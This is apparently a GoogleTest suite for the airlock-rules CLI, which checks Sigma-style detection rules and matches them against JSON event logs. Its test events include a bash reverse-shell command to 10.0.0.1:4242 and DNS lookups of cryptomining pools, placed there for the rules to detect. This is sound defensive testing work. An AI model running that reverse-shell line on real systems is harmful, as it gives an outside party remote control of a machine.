// The airlock-rules binary: check summaries, --json, match output and exit codes, hostile input.
#include <gtest/gtest.h>

#include <sstream>

#include <nlohmann/json.hpp>

#include "test_env.h"

namespace {

using airlock::test::MakeTempDir;

using airlock::test::WriteFile;

const std::string kBin = AIRLOCK_RULES_BIN;
const std::string kBehavior = AIRLOCK_SOURCE_DIR "/rules/behavior";

TEST(AirlockRulesCli, CheckBehaviorRulesJson) {
  auto r = airlock::test::Run({kBin, "check", "--json", kBehavior});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto j = nlohmann::json::parse(r.out);
  EXPECT_GE(j["loaded"].get<int>(), 20);
  EXPECT_EQ(j["loaded"], j["supported"]);
  EXPECT_EQ(j["error_count"], 0);
}

TEST(AirlockRulesCli, CheckReportsErrorsAndUnsupportedWithFileNames) {
  std::string dir = MakeTempDir("sigma-check");
  WriteFile(dir + "/broken.yml", "title: [unclosed\n");
  WriteFile(dir + "/auditd.yml",
            "title: t\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n  s:\n    a: b\n  condition: s\n");
  WriteFile(dir + "/ok.yaml",
            "title: t\nlogsource:\n  product: linux\n  category: dns_query\ndetection:\n  s:\n    QueryName: x\n  condition: s\n");
  auto r = airlock::test::Run({kBin, "check", dir});
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  EXPECT_NE(r.out.find("broken.yml"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("auditd"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("supported:   1"), std::string::npos) << r.out;
  auto js = airlock::test::Run({kBin, "check", "--json", dir});
  auto j = nlohmann::json::parse(js.out);
  EXPECT_EQ(j["loaded"], 2);
  EXPECT_EQ(j["error_count"], 1);
  EXPECT_EQ(j["unsupported_count"], 1);
  EXPECT_EQ(airlock::test::Run({kBin, "check", dir + "/does-not-exist"}).exit_code, 2);
  EXPECT_EQ(airlock::test::Run({kBin, "frobnicate"}).exit_code, 2);
}

TEST(AirlockRulesCli, MatchPrintsOneLinePerMatchAndSkipsBadLines) {
  std::string events =
      R"({"category":"process_creation","Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"})"
      "\n"
      "this is not json\n"
      "[1,2,3]\n"
      "\n" R"({"category":"process_creation","Image":"/bin/ls","CommandLine":"ls -l"})"
      "\n" R"({"category":"dns_query","QueryName":"pool.supportxmr.com"})";
  auto r = airlock::test::Run({kBin, "match", "--rules", kBehavior, "-"}, events);
  ASSERT_EQ(r.exit_code, 0) << r.err;
  std::istringstream lines(r.out);
  std::string line;
  std::vector<nlohmann::json> out;
  while (std::getline(lines, line)) out.push_back(nlohmann::json::parse(line));
  ASSERT_EQ(out.size(), 2u) << r.out;
  EXPECT_EQ(out[0]["rule_id"], "e349e4c3-3d0f-44b1-a14d-bafacef501c0");
  EXPECT_EQ(out[0]["techniques"][0], "T1059.004");
  EXPECT_EQ(out[0]["event"]["Image"], "/bin/bash");
  EXPECT_EQ(out[1]["rule_id"], "78c72306-140a-40ac-8409-2695a9e651cf");
  EXPECT_NE(r.err.find(":2: not a JSON object"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(":3: not a JSON object"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("3 events, 2 matches, 2 bad lines"), std::string::npos) << r.err;
}

TEST(AirlockRulesCli, MatchExitCodes) {
  auto none = airlock::test::Run({kBin, "match", "--rules", kBehavior, "-"}, R"({"category":"process_creation","Image":"/bin/ls"})");
  EXPECT_EQ(none.exit_code, 1) << none.err;
  EXPECT_TRUE(none.out.empty());
  EXPECT_EQ(airlock::test::Run({kBin, "match", "--rules", kBehavior, "/nonexistent/events.jsonl"}).exit_code, 2);
  EXPECT_EQ(airlock::test::Run({kBin, "match", "--rules", "/nonexistent-dir", "-"}, "").exit_code, 2);
  EXPECT_EQ(airlock::test::Run({kBin, "match", "-"}, "").exit_code, 2);  // --rules is required
}

TEST(AirlockRulesCli, OverlongAndDeeplyNestedLinesAreBounded) {
  std::string dir = MakeTempDir("sigma-match");
  std::string big(3u << 20, 'a');
  std::string nested = std::string(100000, '[') + std::string(100000, ']');
  std::string events = big + "\n" + nested + "\n" + R"({"category":"dns_query","QueryName":"x.nanopool.org"})" + "\n";
  WriteFile(dir + "/events.jsonl", events);
  auto r = airlock::test::Run({kBin, "match", "--rules", kBehavior, dir + "/events.jsonl"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.err.find(":1: line longer than 1 MiB"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(":2: not a JSON object"), std::string::npos) << r.err;
  EXPECT_NE(r.out.find("78c72306"), std::string::npos);
}

}  // namespace
